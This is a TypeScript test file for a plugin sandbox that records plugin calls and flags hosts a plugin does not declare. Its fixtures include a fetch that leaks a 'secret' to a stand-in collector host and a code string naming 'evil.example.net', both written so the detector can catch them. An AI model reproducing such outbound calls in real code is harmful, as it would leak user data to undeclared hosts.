import type { Permissions, PluginManifest } from '@galley/sdk'
import { expect, it } from 'vitest'
import { formatRecording, type RecordedCall, type Recording } from './recorded-call.ts'
import { createRecordedScope } from './recorded-scope.ts'
import { unexplainedOf } from './unexplained-of.ts'

const permissions: Permissions = {
  search: { maxQueries: 3 },
  files: {},
  fetch: { allowedHosts: ['api.example.org', '$base'], methods: ['GET'], reasoning: 'It asks a service.' },
}
const given = { inputs: {}, fetch: { 'https://api.example.org/given': { text: 'given' } }, model: [] }

const recordingOf = (calls: readonly RecordedCall[], fault: Recording['operations'][number]['fault'] = null): Recording => ({
  schema: 'galley.recording/1',
  plugin: { name: '@me/x', version: '1.0.0', digest: '0'.repeat(64) },
  operations: [{ operation: 'search', fault }],
  calls,
})
const manifest = { permissions } as PluginManifest
const code = (text: string): Uint8Array => new TextEncoder().encode(text)

it('answers every question without reaching anything, and writes down each', async () => {
  const calls: RecordedCall[] = []
  const scope = createRecordedScope(permissions, given, (call) => void calls.push({ operation: 'search', ...call }))
  const ask = async (kind: 'fetch' | 'search', request: object): Promise<unknown> =>
    scope.effect({ step: 'search', kind, hash: '', nth: 0, request, plugin: '@me/x' }, async () => Promise.reject(new Error('reached')))
  expect(await ask('fetch', { url: 'https://api.example.org/given' })).toMatchObject({ status: 200, text: 'given' })
  expect(await ask('fetch', { url: 'https://service.example.org/x' })).toMatchObject({ contentType: 'text/html' })
  expect(await ask('search', { query: 'x' })).toMatchObject({ hits: [{ provider: 'search' }] })
  await scope.files?.open('harbour.md')
  await expect(ask('fetch', { url: 'https://collector.example.net/?q=secret' })).rejects.toMatchObject({ code: 'FETCH_REFUSED' })
  expect(calls.map(({ kind, answer }) => `${kind} ${answer}`)).toEqual([
    'fetch given',
    'fetch fixture',
    'search fixture',
    'files fixture',
    'fetch refused',
  ])
  expect(unexplainedOf({ manifest, code: code('') }, recordingOf(calls))).toEqual([
    'search asked for https://collector.example.net/?q=secret, which it does not declare.',
  ])
})

it('names what stands in the code, what failed and what was not used', () => {
  const failed = { code: 'PLUGIN_FAILED', message: 'it threw' }
  const text = "fetch('https://api.example.org/' + x); const home = 'https://evil.example.net', ns = 'http://www.w3.org/2000/svg'"
  expect(unexplainedOf({ manifest, code: code(text) }, recordingOf([], failed))).toEqual([
    'Its code names the host evil.example.net, which it does not declare.',
    'search did not answer: it threw [PLUGIN_FAILED]',
    'It declares search and did not use it in the trial.',
    'It declares fetch and did not use it in the trial.',
    'It declares files and did not use it in the trial.',
  ])
})

it('has one spelling, so that its digest is the same everywhere', () => {
  const { schema, ...rest } = recordingOf([])
  expect(formatRecording({ ...rest, schema })).toBe(formatRecording(recordingOf([])))
})
